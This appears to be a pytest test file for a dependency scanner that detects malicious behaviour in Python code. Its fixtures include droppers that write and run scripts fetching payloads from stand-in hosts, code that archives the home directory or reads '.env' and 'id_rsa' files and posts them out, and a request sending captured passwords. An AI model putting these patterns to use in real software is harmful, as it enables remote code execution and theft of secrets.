"""What acts only when it is called: written programs, archives, sought names, dropped answers, labelled secrets."""

from __future__ import annotations

import pytest

from depscan.facts.fact import Fact
from depscan.facts.python import read_python_text
from depscan.facts.sink import Sink

HOST = "https://collect.example.invalid/a"


def _facts(text: str) -> list[Fact]:
    sink = Sink()
    read_python_text(text, path="a.py", line=0, when="import", layer=(), sink=sink)
    return sink.facts


def _flow(facts: list[Fact], fact: Fact) -> list[Fact]:
    todo, seen = list(fact.sources), set[int]()
    while todo:
        index = todo.pop()
        if index not in seen:
            seen.add(index)
            todo.extend(facts[index].sources)
    return [facts[i] for i in sorted(seen)]


def _last(facts: list[Fact], what: str) -> Fact:
    return [fact for fact in facts if fact.what == what][-1]


STAGE = "import os\\nfrom urllib.request import urlretrieve\\nurlretrieve('http://x.example.invalid/s', '/tmp/s.sh')"
STARTS = {
    "os.system": f"with open('/tmp/p.py', 'w') as f:\n    f.write(\"{STAGE}\")\nos.system('python3 /tmp/p.py &')",
    "in parts": f"f = open('p.py', 'w')\nf.write('# x\\n')\nf.write(\"{STAGE}\")\nf.close()\nsubprocess.Popen(['python', 'p.py'])",
    "pathlib": f"pathlib.Path('run.py').write_text(\"{STAGE}\")\nsubprocess.run([sys.executable, 'run.py'])",
    "temporary": f"t = tempfile.NamedTemporaryFile('w', suffix='.py', delete=False)\nt.write(\"{STAGE}\")\n"
    "subprocess.run([sys.executable, t.name])",
    "batch": "open('set.bat', 'w').write('curl -o a.exe http://x.example.invalid/a.exe')\nos.startfile('set.bat')",
    "shell": "open('/tmp/set.sh', 'w').write('curl -o a http://x.example.invalid/a')\nos.system('sh /tmp/set.sh')",
    "moved": "open('a.txt', 'w').write('curl -o a http://x.example.invalid/a')\n"
    "os.system('cmd /c move a.txt go.bat')\nos.system('cmd /c go.bat')",
}


@pytest.mark.parametrize("text", STARTS.values(), ids=STARTS.keys())
def test_a_program_that_is_written_and_started_is_read(text: str) -> None:
    facts = _facts(f"import os, subprocess, sys, pathlib, tempfile\n{text}\n")
    fetched = _last(facts, "net.download")
    assert "written-file" in fetched.guards
    assert "file" in fetched.layer
    assert any(fact.what == "file.write" for fact in _flow(facts, fetched))


def test_a_program_that_is_only_written_is_not_read() -> None:
    facts = _facts(f"import os\nopen('/tmp/p.py', 'w').write(\"{STAGE}\")\nos.system('ls /tmp')\n")
    assert not any(fact.what == "net.download" for fact in facts)


def test_what_is_put_into_an_archive_is_sent_with_it() -> None:
    facts = _facts(
        "import os, requests, zipfile\ndef f():\n    with zipfile.ZipFile('a.zip', 'w') as z:\n"
        "        for r, d, names in os.walk(os.path.expanduser('~')):\n            for n in names:\n"
        f"                z.write(os.path.join(r, n))\n    requests.post({HOST!r}, data=open('a.zip', 'rb'))\n"
    )
    assert any(fact.what == "file.list" and "~" in fact.values for fact in _flow(facts, _last(facts, "net.send")))


def test_an_archive_that_is_read_is_not_written() -> None:
    facts = _facts("import zipfile\nzipfile.ZipFile('a.zip').read('x')\nzipfile.ZipFile('a.zip', 'r').namelist()\n")
    assert not any(fact.what == "file.write" for fact in facts)


@pytest.mark.parametrize("test", ["n == '.env'", "n.endswith('.env')", "n in ('id_rsa', 'x')", "'.env' in n"])
def test_a_listed_name_that_is_compared_with_a_secret_one_is_that_file(test: str) -> None:
    facts = _facts(
        f"import os, requests\ndef f(d):\n    for n in os.listdir(d):\n        if {test}:\n"
        f"            requests.post({HOST!r}, data=open(n).read())\n"
    )
    assert any(fact.callee == "name" for fact in _flow(facts, _last(facts, "net.send")))


def test_other_names_are_not_noted() -> None:
    facts = _facts("import os\ndef f(d):\n    return [n for n in os.listdir(d) if n.endswith('.png') or n == 'env']\n")
    assert not any(fact.callee == "name" for fact in facts)


def test_a_request_says_whether_anybody_takes_its_answer() -> None:
    text = "import requests\ndef f(x):\n    {}requests.post('https://a.example.invalid', x){}\n"
    for before, after, unused in (("", "", True), ("return ", "", False), ("y = ", "", False), ("", ".json()", False)):
        fact = _last(_facts(text.format(before, after)), "net.send")
        assert ("answer:unused" in fact.guards) is unused


def test_an_awaited_request_is_dropped_too() -> None:
    facts = _facts(f"import httpx\nasync def f(x):\n    await httpx.AsyncClient().post({HOST!r}, json=x)\n")
    assert "answer:unused" in _last(facts, "net.send").guards


def test_a_secret_parameter_with_an_empty_default_is_a_secret_when_given() -> None:
    facts = _facts(f"import requests\ndef f(secret_key=None):\n    requests.post({HOST!r}, json=secret_key)\n")
    assert _last(facts, "secret.parameter").values == ("secret_key",)


def test_a_message_that_labels_its_holes_carries_what_it_says() -> None:
    facts = _facts(
        f"import requests\ndef f(a, b):\n    requests.post({HOST!r}, data={{'content': f'New\\nUser: {{a}}\\nPass: {{b}}'}})\n"
    )
    assert _last(facts, "secret.parameter").values == ("password",)


def test_one_labelled_hole_is_no_report() -> None:
    facts = _facts(f"import requests\ndef f(a):\n    requests.post({HOST!r}, data=f'Hello\\nPass: {{a}}')\n")
    assert not any(fact.what == "secret.parameter" for fact in facts)
